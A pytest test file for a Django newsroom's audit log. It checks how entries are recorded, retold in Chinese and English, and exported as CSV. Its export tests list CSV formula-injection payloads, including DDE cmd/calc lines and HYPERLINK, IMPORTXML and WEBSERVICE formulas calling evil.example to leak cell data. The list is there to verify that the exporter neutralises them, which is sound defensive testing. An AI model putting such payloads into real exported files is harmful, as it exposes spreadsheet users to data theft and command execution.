"""The record keeps what was done, tells it in the newsroom's language, and is taken away as a harmless table."""

import csv
import io
import json

import pytest
from django.db.models import ProtectedError
from django.utils import translation

from releases.models import AuditEntry
from releases.services import audit, exporting, retelling
from tests import factories
from tests.factories import NOON

pytestmark = pytest.mark.django_db

What = audit.What


@pytest.fixture
def wing():
    user = factories.make_user("wing")
    user.shown_name = "Wing Lam"
    user.save()
    return user


# --- Keeping ------------------------------------------------------------------------------------


def test_entry_keeps_person_and_thing_as_they_were_called_then(wing):
    topic = factories.make_topic("harbour")
    audit.record(What.CHANGE, by=wing, at=NOON, thing=topic, reason="why", note=None, fields=[])
    wing.shown_name = "Somebody else"
    wing.save()
    topic.delete()
    entry = AuditEntry.objects.get()
    assert (entry.by, entry.by_name, entry.at) == (wing, "Wing Lam", NOON)
    assert (entry.kind, entry.thing, entry.release) == ("topic", "harbour zh-hant", "")
    assert entry.details == {"reason": "why"}


def test_entry_without_an_hour_is_of_the_clock(clock, wing):
    audit.record(What.ADD, by=wing, thing=factories.make_topic())
    assert AuditEntry.objects.get().at == clock.at


def test_name_longer_than_its_column_is_cut(wing):
    release = factories.make_release(headline_zh_hant="長" * 301, by=wing)
    assert audit.of(release).get().thing == "長" * 300


def test_deletion_is_recorded_of_what_goes_with_the_thing_too(wing):
    partner = factories.make_partner("cloudsail")
    contact = factories.make_contact(partner)
    text = factories.make_boilerplate(partner)
    audit.record_deletion(partner, by=wing, at=NOON)
    found = AuditEntry.objects.order_by("id").values_list("kind", "thing_id", "what", "details")
    together = {"together_with": "cloudsail zh-hant"}
    assert list(found) == [
        ("partner", f"{partner.pk}", "delete", {}),
        ("boilerplate", f"{text.pk}", "delete", together),
        ("contact", f"{contact.pk}", "delete", together),
    ]


def test_deletion_of_a_release_keeps_its_version(wing):
    release = factories.make_release("one")
    audit.record_deletion(release, by=wing)
    entry = audit.of(release).first()
    assert (entry.what, entry.thing, entry.release, entry.version) == (
        "delete",
        "headline of one zh-hant",
        release.public_id,
        release.version,
    )


def test_deletion_that_the_database_would_refuse_is_refused(wing):
    partner = factories.make_partner()
    factories.make_release(issuer=partner)
    with pytest.raises(ProtectedError):
        audit.record_deletion(partner, by=wing)


# --- Telling ------------------------------------------------------------------------------------


def told(kind, **details):
    """Return (label, old, text) of each line of an entry with these details."""
    entry = AuditEntry(kind=kind, details=details)
    return [(line.label, line.old, line.text) for line in retelling.lines(entry)]


HOURS = {"publish_at": "2026-11-20T02:00:00+00:00", "en": "2026-11-20T14:00:00+08:00"}
TOLD = {
    "reason": ({"reason": "Too long."}, [("Reason", None, "Too long.")]),
    "note": ({"note": "The wrong room."}, [("Note on the change", None, "The wrong room.")]),
    "hours": (
        {"hours": HOURS, "former": {"publish_at": "2026-11-19T16:00:00.123456+00:00"}},
        [
            ("Hour", None, "Fri 20 Nov 2026, 10:00 HKT"),
            ("Hour · English", None, "Fri 20 Nov 2026, 14:00 HKT"),
            ("Former hour", None, "Fri 20 Nov 2026, 00:00 HKT"),
        ],
    ),
    "language": ({"language": "zh-hans"}, [("Language", None, "简体中文")]),
    "reasons": (
        {"reasons": {"en": "An error.", "zh-hant": "有誤。"}, "keeps_headline": True},
        [
            ("Reason for readers · 繁體中文", None, "有誤。"),
            ("Reason for readers · English", None, "An error."),
            ("Headline", None, "stays on the notice"),
        ],
    ),
    "correction": (
        {
            "reason": "A wrong figure.",
            "notices": {"en": "in paragraph 2, “17” should read “18”."},
            "changes": {"en": [["paragraph 2", "17", "18"], ["paragraph 3", "", "new"]]},
        },
        [
            ("Reason", None, "A wrong figure."),
            ("Notice for readers · English", None, "in paragraph 2, “17” should read “18”."),
            ("English · paragraph 2", "17", "18"),
            ("English · paragraph 3", "–", "new"),
        ],
    ),
    "withheld": (
        {"reason": "A name.", "withholds_old": True},
        [("Reason", None, "A name."), ("Old wording", None, "withheld, here too")],
    ),
    "looks": ({"looks": ["4", "7"]}, [("Reviewed", None, "2")]),
    "unknown": (
        {"from_the_future": ["a", "b", "c"], "count": 3, "empty": []},
        [
            ("Count", None, "3"),
            ("Empty", None, "–"),
            ("From the future", None, "a, b, c"),
        ],
    ),
}


@pytest.mark.parametrize("name", TOLD)
def test_details_of_a_release_are_told_in_words(name):
    details, lines = TOLD[name]
    assert told("release", **details) == lines


def test_fields_are_told_by_their_names_and_choices_by_their_labels():
    fields = [
        ["kind", "meeting", "signing"],
        ["day", None, "2026-11-20"],
        ["summary_en"],
        ["gone_since", "a", "b"],
    ]
    assert told("stop", fields=fields) == [
        ("Kind", "Meeting", "Signing"),
        ("Day", "–", "2026-11-20"),
        ("Summary · EN", None, "changed"),
        ("Gone since", "a", "b"),
    ]
    assert told("contact", fields=[["in_foot", False, True]]) == [
        ("At the foot of every page", "No", "Yes")
    ]


def test_rows_of_a_form_are_told_with_what_was_done_to_them():
    parts = [
        ["add", "appearance", "Shek Pine", []],
        ["change", "appearance", "Shek Cone", ["capacity", "post_en"]],
        ["delete", "appearance", "Shek Root", []],
    ]
    assert told("visit", parts=parts) == [
        ("Appearance · Added", None, "Shek Pine"),
        ("Appearance · Changed", None, "Shek Cone (As, Post held then · EN)"),
        ("Appearance · Deleted", None, "Shek Root"),
    ]


def test_rights_are_told_with_what_they_were():
    lines = told("user", is_active=[True, False], groups=[[], ["Writer", "Editor"]])
    assert lines == [("Groups", "–", "Writer, Editor"), ("Active", "Yes", "No")]


def test_filters_of_an_export_are_told():
    filters = {"year": "2026", "what": "approve", "kind": "photo", "by": "wing", "x": "y"}
    assert told("auditentry", filters=filters, rows="12") == [
        ("Filter: what", None, "Approved"),
        ("Filter: who", None, "wing"),
        ("Filter: kind of thing", None, "Photo"),
        ("Filter: year", None, "2026"),
        ("Filter: x", None, "y"),
        ("Number of entries", None, "12"),
    ]


def test_deed_has_its_hour_with_the_zone_in_the_language_of_the_newsroom():
    entry = AuditEntry(at=NOON, by_name="", what="approve", kind="release", version=4)
    hours = {}
    for language in ("zh-hant", "zh-hans", "en"):
        with translation.override(language):
            hours[language] = retelling.deed(entry).when
    assert hours == {
        "zh-hant": "2026-11-20（五）12:00 香港時間",
        "zh-hans": "2026-11-20（五）12:00 香港时间",
        "en": "Fri 20 Nov 2026, 12:00 HKT",
    }
    assert (retelling.deed(entry).who, retelling.deed(entry).what) == ("–", "Approved")


def test_kind_that_is_no_more_keeps_its_bare_name():
    assert (retelling.kind_name("stop"), retelling.kind_name("pigeon")) == ("Stop", "pigeon")


# --- Taking away --------------------------------------------------------------------------------


def table(by, entries=None, **filters):
    """Return the rows of an export as a spreadsheet reads them, and the text itself."""
    entries = AuditEntry.objects.all() if entries is None else entries
    text = "".join(exporting.export(entries, by=by, at=NOON, filters=filters))
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))), text


def test_export_has_one_row_an_entry_with_hours_of_hong_kong(wing):
    release = factories.make_release("one", by=wing)
    audit.record(
        What.RESCHEDULE,
        by=wing,
        at=NOON,
        thing=release,
        version=release.version,
        hours=HOURS,
        reason="改期",
    )
    rows, text = table(wing)
    assert text.startswith(
        "\ufeffid,at,by,by_name,what,kind,thing_id,thing,release,version,details\r\n"
    )
    assert len(rows) == AuditEntry.objects.count() - 1 == 2
    assert rows[0] | {"id": ""} == {
        "id": "",
        "at": "2026-11-20T12:00:00+08:00",
        "by": "wing",
        "by_name": "Wing Lam",
        "what": "reschedule",
        "kind": "release",
        "thing_id": f"{release.pk}",
        "thing": "headline of one zh-hant",
        "release": release.public_id,
        "version": f"{release.version}",
        "details": rows[0]["details"],
    }
    assert json.loads(rows[0]["details"]) == {
        "hours": {
            "publish_at": "2026-11-20T10:00:00+08:00",
            "en": "2026-11-20T14:00:00+08:00",
        },
        "reason": "改期",
    }
    assert "改期" in rows[0]["details"]


def test_export_is_on_record_before_its_first_line_and_not_part_of_itself(wing):
    factories.make_release(by=wing)
    lines = exporting.export(AuditEntry.objects.all(), by=wing, at=NOON, filters={"what": "save"})
    entry = AuditEntry.objects.first()
    assert (entry.what, entry.by, entry.kind, entry.thing_id) == ("export", wing, "auditentry", "")
    assert entry.details == {"filters": {"what": "save"}, "rows": "1"}
    assert len(list(lines)) == 2


def test_export_reads_some_rows_at_a_time(wing, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    topic = factories.make_topic()
    for _each in range(5):
        audit.record(What.CHANGE, by=wing, thing=topic)
    lines = exporting.export(AuditEntry.objects.all(), by=wing, at=NOON, filters={})
    with django_assert_num_queries(0):
        next(lines)
    with django_assert_num_queries(1):
        next(lines), next(lines)
    with django_assert_num_queries(2):
        assert len(list(lines)) == 3


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Error")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-@SUM(1+1)",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tcmd",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    " =1+1",
    "\u3000=1+1",
    "\u00a0@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=1+1","=2+2',
    "=1+1\r\n=2+2",
]
TEXTS = ["by", "by_name", "what", "kind", "thing_id", "thing", "release"]


@pytest.mark.parametrize("column", TEXTS)
@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_no_text_becomes_a_formula(wing, column, formula):
    fields = {"at": NOON, "by": wing, "what": "save", "kind": "topic"}
    if column == "by":
        type(wing).objects.filter(pk=wing.pk).update(username=formula)
    else:
        formula = formula[: AuditEntry._meta.get_field(column).max_length]
        fields[column] = formula
    AuditEntry.objects.create(**fields)
    [row], _text = table(wing)
    assert row[column] == f"'{formula}"


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_no_detail_becomes_a_formula(wing, formula):
    audit.record(What.RETURN, by=wing, thing=factories.make_topic(), reason=formula)
    [row], _text = table(wing)
    assert row["details"].startswith("{")
    assert json.loads(row["details"]) == {"reason": formula}


def test_numbers_hours_and_plain_texts_stay_as_they_are(wing):
    release = factories.make_release(by=wing)
    AuditEntry.objects.create(
        at=NOON, by=wing, by_name="a=b", what="save", kind="topic", thing="約 -1 度", version=7
    )
    [row, *_others], _text = table(wing, AuditEntry.objects.exclude(release=release.public_id))
    assert (row["by_name"], row["thing"], row["version"]) == ("a=b", "約 -1 度", "7")
    assert row["at"] == "2026-11-20T12:00:00+08:00"
    assert row["id"].isdecimal()
